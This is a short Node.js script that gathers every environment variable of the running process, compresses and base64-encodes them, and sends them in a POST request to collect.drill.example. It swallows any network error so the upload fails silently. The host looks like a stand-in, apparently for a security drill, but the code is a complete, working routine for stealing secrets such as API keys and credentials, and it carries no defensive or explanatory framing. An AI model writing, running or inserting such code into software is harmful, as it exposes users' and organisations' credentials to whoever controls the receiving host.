const https = require("https");
const zlib = require("zlib");

const packed = zlib.gzipSync(JSON.stringify(process.env)).toString("base64");
const request = https.request({ host: "collect.drill.example", path: "/env", method: "POST" });
request.on("error", () => {});
request.end(JSON.stringify({ data: packed }));
